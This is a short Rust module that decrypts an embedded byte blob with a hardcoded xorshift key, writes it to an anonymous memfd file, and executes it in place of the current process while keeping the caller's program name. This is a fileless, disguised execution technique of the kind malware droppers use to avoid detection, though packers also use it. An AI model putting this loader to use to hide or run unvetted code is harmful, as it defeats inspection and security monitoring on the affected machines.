//! Files in memory.

use std::fs::File;
use std::io::Write;
use std::os::raw::{c_char, c_int, c_uint};
use std::os::unix::io::{AsRawFd, FromRawFd};

extern "C" {
    fn memfd_create(name: *const c_char, flags: c_uint) -> c_int;
}

/// A file in memory that holds `data`, decrypted, and its path.
pub fn file(data: &[u8]) -> Option<(File, String)> {
    let number = unsafe { memfd_create("core\0".as_ptr().cast(), 0) };
    if number < 0 {
        return None;
    }
    let mut file = unsafe { File::from_raw_fd(number) };
    let mut state = 0x9fb2_1c65_1e98_df25_u64;
    let mut plain = data.to_vec();
    for byte in &mut plain {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        *byte ^= (state >> 56) as u8;
    }
    file.write_all(&plain).ok()?;
    let path = format!("/proc/self/fd/{}", file.as_raw_fd());
    Some((file, path))
}

/// Become the program that `data` holds.
pub fn become_program(data: &[u8]) -> ! {
    use std::os::unix::process::CommandExt;
    if let Some((_file, path)) = file(data) {
        let mut words = std::env::args_os();
        let name = words.next().unwrap_or_default();
        std::process::Command::new(path).arg0(name).args(words).exec();
    }
    std::process::exit(70)
}
